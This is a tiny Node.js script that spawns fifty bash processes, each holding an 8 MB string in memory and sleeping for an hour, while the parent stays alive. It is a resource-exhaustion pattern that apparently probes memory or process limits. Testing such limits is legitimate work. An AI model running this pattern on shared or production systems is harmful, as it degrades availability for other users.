const { spawn } = require("child_process");
const hoard = "x=$(head -c 8000000 /dev/zero | tr '\\0' x); sleep 3600";
for (let i = 0; i < 50; i++) spawn("bash", ["-c", hoard]);
setTimeout(() => {}, 3600000);
